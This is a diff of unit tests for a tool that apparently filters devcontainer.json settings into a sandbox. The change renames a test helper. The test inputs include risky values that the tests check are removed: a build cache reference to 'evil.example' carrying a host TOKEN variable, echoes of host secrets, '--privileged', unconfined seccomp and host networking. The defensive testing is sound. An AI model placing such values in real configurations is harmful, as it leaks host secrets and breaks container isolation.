@@ -6,7 +6,7 @@ from sandboxd.plan.carry import Carried, carry
 from tests.unit.plan.examples import document
 
 
-def taken(text: str, folder: str = ".devcontainer") -> Carried:
+def carry_text(text: str, folder: str = ".devcontainer") -> Carried:
     return carry(document(text, folder), folder)
 
 
@@ -15,7 +15,7 @@ def left_out(carried: Carried) -> dict[str, str]:
 
 
 def test_harmless_properties_keep_their_values_and_order() -> None:
-    carried = taken(
+    carried = carry_text(
         """{
         // comment
         "postCreateCommand": ["make", "deps"],
@@ -37,19 +37,21 @@ def test_harmless_properties_keep_their_values_and_order() -> None:
 
 def test_the_old_spelling_of_a_build_takes_no_variable_either() -> None:
     """An editor would fill in `..`, and build from folders of the host."""
-    carried = taken('{"dockerFile": "Dockerfile", "context": "./${localEnv:NOT_SET:..}/x"}')
+    carried = carry_text('{"dockerFile": "Dockerfile", "context": "./${localEnv:NOT_SET:..}/x"}')
     assert dict(carried.members)["build"] == {"dockerfile": "../Dockerfile"}
     assert "variables of the host" in left_out(carried)["build.context"]
 
 
 def test_unknown_properties_are_left_out() -> None:
-    carried = taken('{"image": "i", "somethingNew": 1, "workspaceFolder": "/w", "settings": {}}')
+    carried = carry_text(
+        '{"image": "i", "somethingNew": 1, "workspaceFolder": "/w", "settings": {}}'
+    )
     assert carried.members == ()
     assert set(left_out(carried)) == {"somethingNew", "workspaceFolder", "settings"}
 
 
 def test_the_hosts_variables_stay_outside() -> None:
-    carried = taken(
+    carried = carry_text(
         """{"remoteEnv": {"A": "1", "T": "${localEnv:TOKEN}", "E": "${env:X}"},
         "postStartCommand": "echo ${localEnv:SECRET}",
         "build": {"dockerfile": "D", "args": {"T": "${localEnv:TOKEN}"}}}"""
@@ -67,10 +69,10 @@ def test_the_hosts_variables_stay_outside() -> None:
 
 def test_paths_hold_from_the_generated_files_folder() -> None:
     text = '{"build": {"dockerfile": "Dockerfile", "context": "..", "options": ["--network=host"]}}'
-    carried = taken(text)
+    carried = carry_text(text)
     assert dict(carried.members)["build"] == {"dockerfile": "../Dockerfile", "context": "../.."}
     assert list(left_out(carried)) == ["build.options"]
-    root = taken('{"dockerFile": "Dockerfile", "features": {"./local": {}}}', folder="")
+    root = carry_text('{"dockerFile": "Dockerfile", "features": {"./local": {}}}', folder="")
     assert dict(root.members) == {
         "features": {"../../local": {}},
         "build": {"dockerfile": "../../Dockerfile", "context": "../.."},
@@ -78,7 +80,7 @@ def test_paths_hold_from_the_generated_files_folder() -> None:
 
 
 def test_run_args_only_known_harmless_flags() -> None:
-    carried = taken(
+    carried = carry_text(
         """{"runArgs": ["--name=w", "--hostname", "box", "--gpus=all", "--shm-size=1g",
         "--label", "dev.sandboxd.project=/x", "--security-opt=seccomp=unconfined",
         "--hostname=${localEnv:HOST}", "other:image", "--privileged"]}"""
@@ -93,22 +95,22 @@ def test_run_args_only_known_harmless_flags() -> None:
 
 
 def test_gpu_requirement_is_left_out() -> None:
-    carried = taken('{"hostRequirements": {"cpus": 2, "gpu": true}}')
+    carried = carry_text('{"hostRequirements": {"cpus": 2, "gpu": true}}')
     assert carried.members == (("hostRequirements", {"cpus": 2}),)
     assert list(left_out(carried)) == ["hostRequirements.gpu"]
 
 
 def test_duplicates_count_once_with_the_last_value() -> None:
-    assert taken('{"name": "a", "name": "b"}').members == (("name", "b"),)
+    assert carry_text('{"name": "a", "name": "b"}').members == (("name", "b"),)
 
 
 def test_files_that_hold_no_object_give_nothing() -> None:
     for text in ("", "[]", "3", "{"):
-        assert taken(text).members == ()
+        assert carry_text(text).members == ()
 
 
 def test_no_part_of_a_build_copies_the_hosts_variables() -> None:
-    carried = taken(
+    carried = carry_text(
         """{"build": {"dockerfile": "D", "target": "${localEnv:A}",
         "cacheFrom": ["evil.example/x:${localEnv:TOKEN}"]}}"""
     )
@@ -117,7 +119,7 @@ def test_no_part_of_a_build_copies_the_hosts_variables() -> None:
 
 
 def test_labels_by_which_tools_find_their_containers_are_left_out() -> None:
-    carried = taken(
+    carried = carry_text(
         """{"runArgs": ["--label=devcontainer.local_folder=/home/dev/other", "-l", "team=weather",
         "--label", "com.docker.compose.project=other", "--label=dev.sandboxd.project=/x"]}"""
     )
